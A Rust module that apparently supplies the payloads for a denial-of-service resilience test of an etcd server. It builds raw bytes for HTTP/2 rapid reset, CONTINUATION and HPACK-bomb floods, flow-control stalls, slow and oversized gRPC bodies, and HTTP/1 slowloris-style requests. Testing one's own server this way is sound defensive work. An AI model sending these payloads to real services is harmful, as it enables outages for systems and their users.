//! The bytes of the attacks, a function each.
//!
//! Owns: what a hostile client says. A function takes the number of the piece on its connection, so that stream numbers
//! ascend, and appends to what is sent. Does not know: sockets, rates.

use crate::h2::{self, flag, frame, setting};
use crate::hpack::RequestHeaders;
use crate::messages;

const RANGE: &str = "/etcdserverpb.KV/Range";
const PUT: &str = "/etcdserverpb.KV/Put";
const WATCH: &str = "/etcdserverpb.Watch/Watch";
/// The first of the large values' keys; whoever prepares the server puts [`LARGE_KEYS`] of them.
pub const LARGE_KEY_FIRST: u64 = 90_000_000;
/// How many there are.
pub const LARGE_KEYS: u64 = 16;
/// Bytes of all keys.
pub const KEY_BYTES: usize = 32;
/// What a slow body sends before it becomes slow: less than a stream's first window.
const BODY_BEGINNING_BYTES: usize = 60_000;

fn stream_of(round: u64) -> u32 {
    1 + 2 * u32::try_from(round).expect("a connection has fewer streams than 2^31")
}

fn put_call(out: &mut Vec<u8>, stream: u32, flags: u8, path: &str) {
    let mut headers = RequestHeaders::new(path, "localhost", false);
    let block = headers.next_block();
    h2::put_head(out, block.len(), frame::HEADERS, flag::END_HEADERS | flags, stream);
    out.extend_from_slice(block);
}

fn put_data(out: &mut Vec<u8>, stream: u32, flags: u8, prefix: [u8; 5], body: &[u8]) {
    let mut payload = prefix.to_vec();
    payload.extend_from_slice(body);
    let mut pieces = payload.chunks(h2::FRAME_BYTES_DEFAULT).peekable();
    while let Some(piece) = pieces.next() {
        let flags = if pieces.peek().is_none() { flags } else { 0 };
        h2::put_head(out, piece.len(), frame::DATA, flags, stream);
        out.extend_from_slice(piece);
    }
}

fn prefix(len: usize) -> [u8; 5] {
    let [l0, l1, l2, l3] = (len as u32).to_be_bytes();
    [0, l0, l1, l2, l3]
}

fn put_number(out: &mut Vec<u8>, kind: u8, stream: u32, value: u32) {
    h2::put_head(out, 4, kind, 0, stream);
    out.extend_from_slice(&value.to_be_bytes());
}

fn range_of(out: &mut Vec<u8>, round: u64, key: u64) {
    let (mut text, mut message) = (Vec::new(), Vec::new());
    messages::key_for(&mut text, key, KEY_BYTES);
    messages::range_request(&mut message, &text, false);
    put_call(out, stream_of(round), 0, RANGE);
    put_data(out, stream_of(round), flag::END_STREAM, prefix(message.len()), &message);
}

/// Preface and SETTINGS.
pub fn greeting(_: u64, out: &mut Vec<u8>) {
    out.extend_from_slice(h2::PREFACE);
    h2::put_settings(out, &[]);
}

/// A greeting that lets the server send nothing on a stream.
pub fn greeting_zero_window(_: u64, out: &mut Vec<u8>) {
    out.extend_from_slice(h2::PREFACE);
    h2::put_settings(out, &[(setting::INITIAL_WINDOW_SIZE, 0)]);
}

/// A greeting that lets the server send as much as there is.
pub fn greeting_wide_window(_: u64, out: &mut Vec<u8>) {
    out.extend_from_slice(h2::PREFACE);
    h2::put_settings(out, &[(setting::INITIAL_WINDOW_SIZE, (1 << 31) - 1)]);
    h2::put_window_update(out, 0, (1 << 31) - 1 - h2::WINDOW_DEFAULT as u32);
}

/// The next byte of the preface.
pub fn preface_byte(round: u64, out: &mut Vec<u8>) {
    out.extend(h2::PREFACE.get(round as usize));
}

/// A whole request, reset before it can be answered.
pub fn rapid_reset(round: u64, out: &mut Vec<u8>) {
    range_of(out, round, 0);
    put_number(out, frame::RST_STREAM, stream_of(round), 8);
}

/// A whole request, and a violation on its stream.
pub fn server_reset(round: u64, out: &mut Vec<u8>) {
    range_of(out, round, 0);
    put_number(out, frame::WINDOW_UPDATE, stream_of(round), 0);
}

/// The beginning of a header block, then more and more of it.
pub fn continuation(round: u64, out: &mut Vec<u8>) {
    let field = literal(b"x", &[b'v'; 64]);
    let kind = if round == 0 { frame::HEADERS } else { frame::CONTINUATION };
    h2::put_head(out, field.len(), kind, 0, 1);
    out.extend_from_slice(&field);
}

/// A field that is not to be indexed.
fn literal(name: &[u8], value: &[u8]) -> Vec<u8> {
    let mut field = vec![0, name.len() as u8];
    field.extend_from_slice(name);
    put_length(&mut field, value.len());
    field.extend_from_slice(value);
    field
}

/// The length of a string that is not Huffman-coded.
fn put_length(out: &mut Vec<u8>, len: usize) {
    if len < 127 {
        return out.push(len as u8);
    }
    out.push(127);
    let mut rest = len - 127;
    while rest > 127 {
        out.push(rest as u8 | 0x80);
        rest >>= 7;
    }
    out.push(rest as u8);
}

/// A header block of any length, as HEADERS and CONTINUATION.
fn put_block(out: &mut Vec<u8>, stream: u32, block: &[u8]) {
    let count = block.len().div_ceil(h2::FRAME_BYTES_DEFAULT);
    for (number, piece) in block.chunks(h2::FRAME_BYTES_DEFAULT).enumerate() {
        let (kind, mut flags) = if number == 0 { (frame::HEADERS, flag::END_STREAM) } else { (frame::CONTINUATION, 0) };
        if number + 1 == count {
            flags |= flag::END_HEADERS;
        }
        h2::put_head(out, piece.len(), kind, flags, stream);
        out.extend_from_slice(piece);
    }
}

/// :method POST, :scheme http, :path /.
const PSEUDO_FIELDS: [u8; 3] = [0x83, 0x86, 0x84];

/// A request with eight fields of 3 KiB.
pub fn long_headers(round: u64, out: &mut Vec<u8>) {
    let mut block = PSEUDO_FIELDS.to_vec();
    for number in 0..8 {
        block.extend(literal(&[b'a' + number], &[b'v'; 3 << 10]));
    }
    put_block(out, stream_of(round), &block);
}

/// A field of almost the whole table first; then requests that name it again and again.
pub fn hpack_bomb(round: u64, out: &mut Vec<u8>) {
    let mut block = PSEUDO_FIELDS.to_vec();
    if round == 0 {
        let mut field = literal(b"x", &[b'v'; 4_000]);
        field[0] = 0x40;
        block.extend(field);
    }
    // The newest entry of the dynamic table.
    block.extend([0x80 | 62; 15_000]);
    put_block(out, stream_of(round), &block);
}

/// A request that empties the table and makes it large again, many times.
pub fn hpack_resize(round: u64, out: &mut Vec<u8>) {
    let mut block = Vec::new();
    for _ in 0..2_000 {
        // 0, then 4,096.
        block.extend_from_slice(&[0x20, 0x3f, 0xe1, 0x1f]);
    }
    block.extend(PSEUDO_FIELDS);
    put_block(out, stream_of(round), &block);
}

/// PING.
pub fn ping(round: u64, out: &mut Vec<u8>) {
    h2::put_head(out, 8, frame::PING, 0, 0);
    out.extend_from_slice(&round.to_be_bytes());
}

/// SETTINGS with another initial window each time.
pub fn settings(round: u64, out: &mut Vec<u8>) {
    h2::put_settings(out, &[(setting::INITIAL_WINDOW_SIZE, 65_535 + (round % 2) as u32)]);
}

/// WINDOW_UPDATE of the connection.
pub fn window_update(_: u64, out: &mut Vec<u8>) {
    h2::put_window_update(out, 0, 1);
}

/// An open call, then DATA without content.
pub fn empty_data(round: u64, out: &mut Vec<u8>) {
    if round == 0 {
        put_call(out, 1, 0, WATCH);
    }
    h2::put_head(out, 0, frame::DATA, 0, 1);
}

/// PRIORITY of a stream that nobody opened.
pub fn priority(round: u64, out: &mut Vec<u8>) {
    h2::put_head(out, 5, frame::PRIORITY, 0, stream_of(round % 1_000) + 2);
    out.extend_from_slice(&[0, 0, 0, 1, 7]);
}

/// A range of one large value.
pub fn large_range(round: u64, out: &mut Vec<u8>) {
    range_of(out, round, LARGE_KEY_FIRST + round % LARGE_KEYS);
}

/// A range of one small value.
pub fn small_range(round: u64, out: &mut Vec<u8>) {
    range_of(out, round, round % 1_000);
}

/// A large put begins, and goes on byte by byte.
pub fn slow_body(round: u64, out: &mut Vec<u8>) {
    if round > 0 {
        h2::put_head(out, 1, frame::DATA, 0, 1);
        out.push(b'v');
        return;
    }
    half_body(0, out);
}

/// A large put begins on a stream of its own.
pub fn half_body(round: u64, out: &mut Vec<u8>) {
    put_call(out, stream_of(round), 0, PUT);
    put_data(out, stream_of(round), 0, prefix(1 << 20), &[b'v'; BODY_BEGINNING_BYTES]);
}

/// A put that announces more than fits.
pub fn huge_length(round: u64, out: &mut Vec<u8>) {
    put_call(out, stream_of(round), 0, PUT);
    put_data(out, stream_of(round), 0, [0, 0xff, 0xff, 0xff, 0xff], &[b'v'; 100]);
}

/// A put whose message has the compressed flag.
pub fn compressed(round: u64, out: &mut Vec<u8>) {
    let mut block = RequestHeaders::new(PUT, "localhost", false).next_block().to_vec();
    block.extend(literal(b"grpc-encoding", b"gzip"));
    h2::put_head(out, block.len(), frame::HEADERS, flag::END_HEADERS, stream_of(round));
    out.extend_from_slice(&block);
    put_data(out, stream_of(round), flag::END_STREAM, [1, 0, 0, 0, 4], b"vvvv");
}

/// A call that stays open.
pub fn open_watch(round: u64, out: &mut Vec<u8>) {
    put_call(out, stream_of(round), 0, WATCH);
}

/// A watch call, then one watch after another on it.
pub fn create_watch(round: u64, out: &mut Vec<u8>) {
    if round == 0 {
        put_call(out, 1, 0, WATCH);
    }
    // WatchRequest { create_request: { key: [0], range_end: [0], prev_kv: true } }: all keys.
    let message = [0x0a, 8, 0x0a, 1, 0, 0x12, 1, 0, 0x30, 1];
    put_data(out, 1, 0, prefix(message.len()), &message);
}

/// A request line and one field.
pub fn http1_beginning(_: u64, out: &mut Vec<u8>) {
    out.extend_from_slice(b"GET /health HTTP/1.1\r\nHost: localhost\r\nX-Field: ");
}

/// One more byte.
pub fn http1_byte(_: u64, out: &mut Vec<u8>) {
    out.push(b'v');
}

/// The beginning of a request line.
pub fn http1_line(_: u64, out: &mut Vec<u8>) {
    out.extend_from_slice(b"GET /");
}

/// More of the line.
pub fn http1_line_more(_: u64, out: &mut Vec<u8>) {
    out.extend_from_slice(&[b'a'; 16 << 10]);
}

/// Requests in a row.
pub fn http1_pipeline(_: u64, out: &mut Vec<u8>) {
    for _ in 0..100 {
        out.extend_from_slice(b"GET /version HTTP/1.1\r\nHost: localhost\r\n\r\n");
    }
}

/// A request whose body is long, and an eighth of the body.
pub fn http1_body(_: u64, out: &mut Vec<u8>) {
    out.extend_from_slice(b"POST /v3/kv/put HTTP/1.1\r\nHost: localhost\r\nContent-Length: 2000000\r\n\r\n");
    out.extend_from_slice(&[b'v'; 256 << 10]);
}

/// Bytes of no protocol, lines among them.
pub fn noise(_: u64, out: &mut Vec<u8>) {
    let mut random = 0x9e37_79b9_7f4a_7c15_u64;
    for _ in 0..128 {
        random = random.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        out.extend_from_slice(&random.to_be_bytes());
    }
    out.extend_from_slice(b"\r\n");
}

/// The head of a TLS 1.2 handshake record with a ClientHello.
pub fn client_hello(_: u64, out: &mut Vec<u8>) {
    out.extend_from_slice(&[0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3]);
    out.extend_from_slice(&[0x5a; 505]);
}
